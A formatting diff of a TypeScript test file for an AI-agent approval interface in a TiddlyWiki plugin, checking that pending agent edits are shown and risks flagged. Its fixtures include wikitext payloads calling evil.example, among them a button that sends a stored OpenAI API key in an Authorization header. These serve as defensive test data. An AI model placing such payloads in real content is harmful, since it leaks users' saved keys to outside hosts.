@@ -24,7 +24,18 @@ function waiting(chat: string, tool: string, changes: unknown, extra: Record<str
   return [
     { title: chat, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
     { title: `$:/ai/messages/${chat}/000000`, 'agent-chat': chat, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Do it' },
-    { title: `$:/ai/messages/${chat}/000001`, 'agent-chat': chat, 'agent-seq': '1', role: 'tool', 'tool-name': tool, 'tool-call-id': 'x1', 'tool-args': '{}', 'tool-status': 'pending', 'tool-changes': JSON.stringify(changes), ...extra },
+    {
+      title: `$:/ai/messages/${chat}/000001`,
+      'agent-chat': chat,
+      'agent-seq': '1',
+      role: 'tool',
+      'tool-name': tool,
+      'tool-call-id': 'x1',
+      'tool-args': '{}',
+      'tool-status': 'pending',
+      'tool-changes': JSON.stringify(changes),
+      ...extra,
+    },
   ];
 }
 const LOADS_CHAT = 'Loads chat';
@@ -45,10 +56,20 @@ const LOADS: [string, string][] = [
   ['<svg><use href="https://evil.example/k.svg#x"/></svg>', 'loads https://evil.example/k.svg#x when shown (href)'],
   ['<video poster="https://evil.example/l.png"></video>', 'loads https://evil.example/l.png when shown (poster)'],
   ['<$password name="openai-api-key"/>', '<$password> shows a password or key saved in this browser to whoever views the note'],
-  ['<$button><$action-sendmessage $message="tm-http-request" url="https://evil.example/" password-header-Authorization="openai-api-key"/>Go</$button>', 'sends HTTP requests (tm-http-request), which can carry a password or key saved in this browser'],
+  [
+    '<$button><$action-sendmessage $message="tm-http-request" url="https://evil.example/" password-header-Authorization="openai-api-key"/>Go</$button>',
+    'sends HTTP requests (tm-http-request), which can carry a password or key saved in this browser',
+  ],
 ];
 const LOADS_TEXT = LOADS.map(([text]) => text).join('\n\n');
-const SELF_BEFORE = { title: 'Self agent', tags: '$:/tags/AI/Agent', 'agent-provider': 'P', 'agent-tools': 'edit-agent-definition', text: 'You are casual.', modified: '20260101000000000' };
+const SELF_BEFORE = {
+  title: 'Self agent',
+  tags: '$:/tags/AI/Agent',
+  'agent-provider': 'P',
+  'agent-tools': 'edit-agent-definition',
+  text: 'You are casual.',
+  modified: '20260101000000000',
+};
 const AFTER = {
   title: 'Helper',
   text: 'Click <$button actions="<$action-sendmessage $message=tm-http-request/>">here</$button> [img[https://evil.example/x.png]]',
@@ -87,7 +108,9 @@ beforeAll(async () => {
       'tool-args': JSON.stringify({ prompt: 'You are formal.' }),
       'tool-status': 'pending',
       'approval-choices': 'once deny',
-      'tool-changes': JSON.stringify({ 'Self agent': { before: SELF_BEFORE, after: { ...SELF_BEFORE, text: 'You are formal.', modified: '20260102000000000' } } }),
+      'tool-changes': JSON.stringify({
+        'Self agent': { before: SELF_BEFORE, after: { ...SELF_BEFORE, text: 'You are formal.', modified: '20260102000000000' } },
+      }),
       text: 'Change the system prompt of this agent.',
     },
     { title: PREVIEW_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
@@ -128,15 +151,37 @@ beforeAll(async () => {
       'tool-call-id': 'c2',
       'tool-args': JSON.stringify({ title: 'Note', tags: ['Done'] }),
       'tool-status': 'pending',
-      'tool-changes': JSON.stringify({ Note: { before: { title: 'Note', tags: 'Draft', caption: 'Old' }, after: { title: 'Note', tags: 'Done', caption: 'Old and new' } } }),
+      'tool-changes': JSON.stringify({
+        Note: { before: { title: 'Note', tags: 'Draft', caption: 'Old' }, after: { title: 'Note', tags: 'Done', caption: 'Old and new' } },
+      }),
       text: 'Update "Note"',
     },
-    ...waiting(LONG_CHAT, 'wiki-edit', { 'Long note': { before: LONG_NOTE, after: { ...LONG_NOTE, text: LONG.replace('Paragraph 61 of', 'The last paragraph of'), modified: '20260102000000000' } } }, { 'approval-edit': 'Long note' }),
+    ...waiting(
+      LONG_CHAT,
+      'wiki-edit',
+      {
+        'Long note': {
+          before: LONG_NOTE,
+          after: { ...LONG_NOTE, text: LONG.replace('Paragraph 61 of', 'The last paragraph of'), modified: '20260102000000000' },
+        },
+      },
+      { 'approval-edit': 'Long note' },
+    ),
     ...waiting(MANY_CHAT, 'wiki-update', {
-      'Long note': { before: LONG_NOTE, after: { ...LONG_NOTE, text: LONG.replace('Paragraph 2 of', 'Paragraph two of').replace('Paragraph 30 of', 'Paragraph thirty of').replace('Paragraph 60 of', 'Paragraph sixty of') } },
+      'Long note': {
+        before: LONG_NOTE,
+        after: {
+          ...LONG_NOTE,
+          text: LONG.replace('Paragraph 2 of', 'Paragraph two of')
+            .replace('Paragraph 30 of', 'Paragraph thirty of')
+            .replace('Paragraph 60 of', 'Paragraph sixty of'),
+        },
+      },
     }),
     ...waiting(DELETE_CHAT, 'wiki-delete', { 'Long note': { before: LONG_NOTE, after: null } }),
-    ...waiting(BIG_CHAT, 'wiki-update', { 'Big note': { before: { title: 'Big note', text: BIG }, after: { title: 'Big note', text: BIG.replace('Line 500:', 'Line five hundred:') } } }),
+    ...waiting(BIG_CHAT, 'wiki-update', {
+      'Big note': { before: { title: 'Big note', text: BIG }, after: { title: 'Big note', text: BIG.replace('Line 500:', 'Line five hundred:') } },
+    }),
   ]);
 });
 
@@ -151,7 +196,12 @@ function render(chat = CHAT) {
 function find(node: any, className: string): any[] {
   const out: any[] = [];
   const walk = (n: any) => {
-    if (String(n.attributes?.class ?? n.className ?? '').split(' ').includes(className)) out.push(n);
+    if (
+      String(n.attributes?.class ?? n.className ?? '')
+        .split(' ')
+        .includes(className)
+    )
+      out.push(n);
     for (const c of n.children ?? []) walk(c);
   };
   walk(node);
@@ -171,7 +221,7 @@ test('a new tiddler: its title, the fields it gets (not the dates a write stamps
   expect(find(card, 'tc-ai-approve-edit')).toHaveLength(0);
 });
 
-test('a long text\'s last line changed: the card shows that place with two lines of context, not the text from the top, and offers Edit', () => {
+test("a long text's last line changed: the card shows that place with two lines of context, not the text from the top, and offers Edit", () => {
   const [card] = find(render(LONG_CHAT), 'tc-ai-approval');
   expect(find(card, 'tc-ai-diff-field')).toHaveLength(0);
   expect(find(card, 'tc-ai-diff-where')[0].textContent).toBe('1 change · line 121');
@@ -257,7 +307,13 @@ test('a call without planned changes shows its preview once, the exact arguments
 });
 
 test('only the fields that change, word by word, in the wiki language', () => {
-  const fields = () => find(render(DIFF_CHAT), 'tc-ai-diff-field').map((row) => find(row, 'tc-ai-diff-field-name')[0].textContent + ': ' + row.children[1].children.map((n: any) => (n.tag === 'ins' ? `+${n.textContent}` : n.tag === 'del' ? `-${n.textContent}` : n.textContent)).join(''));
+  const fields = () =>
+    find(render(DIFF_CHAT), 'tc-ai-diff-field').map(
+      (row) =>
+        find(row, 'tc-ai-diff-field-name')[0].textContent +
+        ': ' +
+        row.children[1].children.map((n: any) => (n.tag === 'ins' ? `+${n.textContent}` : n.tag === 'del' ? `-${n.textContent}` : n.textContent)).join(''),
+    );
   expect(fields()).toEqual(['tags: -Draft+Done', 'caption: Old+ and new']);
   // The text did not change: no text section. The card shows what changes, once: no preview besides.
   expect(find(render(DIFF_CHAT), 'tc-ai-diff-text')).toHaveLength(0);
